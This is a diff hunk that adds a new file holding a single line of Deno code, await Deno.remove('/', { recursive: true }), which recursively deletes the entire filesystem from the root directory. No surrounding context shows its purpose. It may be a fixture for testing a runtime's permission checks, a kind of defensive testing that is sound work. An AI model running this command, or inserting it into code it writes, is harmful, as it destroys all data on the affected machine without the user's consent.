@@ -0,0 +1 @@
+await Deno.remove("/", { recursive: true });